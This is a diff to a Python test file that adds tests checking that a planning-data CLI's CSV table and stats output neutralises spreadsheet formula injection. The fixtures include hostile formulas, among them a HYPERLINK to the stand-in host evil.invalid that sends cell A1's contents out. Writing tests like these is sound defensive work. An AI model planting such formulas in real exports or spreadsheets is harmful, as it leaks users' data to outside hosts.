@@ -8,14 +8,18 @@ from __future__ import annotations
 import csv
 import io
 import json
+from collections.abc import Callable
 from pathlib import Path
 
 import openpyxl
 import pytest
-from conftest import NATIONAL
+from conftest import NATIONAL, PLANS, CliResult
 from test_import_export import _export, _load, assert_round_trip, summary
 
+from model.analysis.table import frame
+from model.core.national import load_national
 from model.core.spreadsheet import FORMULA_START, formula_like, neutralised, restored, xlsx_cell
+from model.project.lint import lint_paths
 
 HOSTILE_NOTES = {
     "governance": '=HYPERLINK("http://evil.invalid/?x="&A1,"詳細")',
@@ -79,3 +83,37 @@ def test_neutralised_and_restored_are_inverse(text: str) -> None:
     assert restored(neutralised(text)) == text
     assert neutralised(text)[:1] not in FORMULA_START
     assert (neutralised(text) == text) is (text.lstrip("'")[:1] not in FORMULA_START)
+
+
+def test_table_csv_neutralises_formulas(hostile: Path, cli: Callable[..., CliResult]) -> None:
+    """``plans table --format csv`` writes through the same neutraliser as ``plans export``: a
+    municipality named like a formula comes out with the mark, every other cell as it was."""
+    plan = hostile / "ube.toml"
+    plan.write_text(plan.read_text("utf-8").replace('municipality = "宇部市"', 'municipality = "=HYPERLINK(\\"http://evil.invalid\\",\\"宇部\\")"'), "utf-8")
+    r = cli("table", str(hostile), "--format", "csv")
+    assert r.code == 0, r.err
+    cells = [v for row in csv.reader(io.StringIO(r.out.removeprefix("\ufeff"))) for v in row]
+    assert not [c for c in cells if c[:1] in FORMULA_START]
+    assert "'" + '=HYPERLINK("http://evil.invalid","宇部")' in cells
+    plain = cli("table", str(PLANS), "--format", "csv")  # the shipped plans: nothing to mark, the same bytes
+    df = frame(lint_paths([PLANS]).plans, load_national(NATIONAL), "ja")
+    assert plain.out == "\ufeff" + df.write_csv()
+
+
+def test_stats_csv_neutralises_formulas(cli: Callable[..., CliResult], monkeypatch: pytest.MonkeyPatch) -> None:
+    """``plans stats --format csv``: its labels come from the national data and the rules, none
+    formula-like today (the output is as polars writes it); one that were is marked."""
+    from model.analysis import stats
+
+    plain = cli("stats", str(PLANS), "--format", "csv")
+    assert plain.code == 0, plain.err
+    cells = [v for row in csv.reader(io.StringIO(plain.out)) for v in row]
+    assert not [c for c in cells if c[:1] in FORMULA_START] and len(cells) > 20
+    rows = stats.rows
+
+    def hostile_rows(s: stats.Stats, lang: str = "ja") -> list[dict[str, object]]:
+        return [*rows(s, lang), {"section": "x", "key": "-1", "label": "=1+1", "count": 1, "error": None, "warning": None, "info": None}]
+
+    monkeypatch.setattr(stats, "rows", hostile_rows)
+    r = cli("stats", str(PLANS), "--format", "csv")
+    assert r.out.startswith(plain.out) and r.out[len(plain.out) :] == "x,'-1,'=1+1,1,,,\n"
